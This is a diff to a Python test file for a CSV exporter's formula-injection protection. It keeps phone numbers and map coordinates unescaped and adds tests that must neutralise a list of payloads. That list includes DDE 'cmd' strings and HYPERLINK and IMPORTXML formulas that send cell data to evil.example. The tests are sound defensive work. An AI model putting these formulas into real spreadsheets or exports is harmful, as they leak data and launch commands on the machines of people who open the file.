@@ -500,8 +500,13 @@ def test_a_row_longer_than_the_limit_with_short_cells_is_rejected_as_a_row(tmp_p
     ("cell", "written"),
     [
         ("=SUM(A1)", "'=SUM(A1)"),
-        ("+51 987 654 321", "'+51 987 654 321"),
-        ("-12.04,-77.03", "'-12.04,-77.03"),
+        ("+51 987 654 321", "+51 987 654 321"),  # digits and + - . , ( ): no formula
+        ("-12.04,-77.03", "-12.04,-77.03"),
+        ("+52 (33) 3615-2200", "+52 (33) 3615-2200"),
+        ("-5", "-5"),
+        ("+51 987 654 321 ext", "'+51 987 654 321 ext"),
+        ("-12.04;-77.03", "'-12.04;-77.03"),
+        ("'+51 987", "''+51 987"),
         ("@cmd", "'@cmd"),
         ("\tx", "'\tx"),
         ("\rx", "'\rx"),
@@ -527,8 +532,58 @@ def test_neutralise_round_trips_every_short_tricky_string():
             cell = "".join(chars)
             guarded = neutralise(cell)
             assert unneutralise(guarded) == cell
-            assert guarded[:1] not in set("=+-@\t\r\n")
+            harmless = set(cell) <= set("0123456789 +-.,()")
+            assert guarded[:1] not in set("=+-@\t\r\n") or harmless
             assert guarded == cell or guarded == "'" + cell
+
+
+# Real numbers as offices write them: left as they are (Excel shows them as typed)
+REAL_NUMBERS = [
+    "+523336152200",  # a Guadalajara landline, E.164
+    "+52 33 3615 2200",
+    "+51 1 311 7171",  # Lima
+    "+57 (601) 382 3300",  # Bogotá, with its area code in brackets
+    "-12.04318,-77.02824",  # Plaza Mayor, Lima
+    "4.59805, -74.07611",
+    "-33.45694, -70.64827",
+    "-1,234.50",
+]
+# OWASP's CSV injection payloads and their kin: neutralised
+FORMULAS = [
+    "=1+2",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: click")',
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "-1+1)*cmd|' /C calc'!A0",
+    "=10+20+cmd|' /C calc'!A0",
+    "+1+2+cmd|' /C calc'!A0",
+    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
+    '=DDE("cmd";"/C calc";"!A0")A0',
+    "\t=1+2",
+    "-12.04318,-77.02824+cmd|' /C calc'!A0",
+    "+52 33 3615 2200;=1+1",
+]
+
+
+@pytest.mark.parametrize("cell", REAL_NUMBERS)
+def test_phones_and_coordinates_are_written_as_they_are(tmp_path, cell):
+    path = tmp_path / "out.csv"
+    write_csv(path, ["Name", "Telephone"], [["Ana", cell]])
+    text = path.read_text(encoding="utf-8-sig")
+    assert list(csv.reader(io.StringIO(text)))[1] == ["Ana", cell] and "'" not in text
+
+
+@pytest.mark.parametrize("cell", FORMULAS)
+def test_formula_payloads_are_neutralised(tmp_path, cell):
+    assert neutralise(cell) == "'" + cell and unneutralise(neutralise(cell)) == cell
+    path = tmp_path / "out.csv"
+    write_csv(path, ["Name", "UniqueReference", "Notes"], [["Ana", "X1", cell]])
+    _source, rows = read(path)
+    assert [r.cells for r in rows] == [["Ana", "X1", cell]]  # read back as it was
+    written = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))[1][2]
+    assert written == "'" + cell
 
 
 TRICKY = [
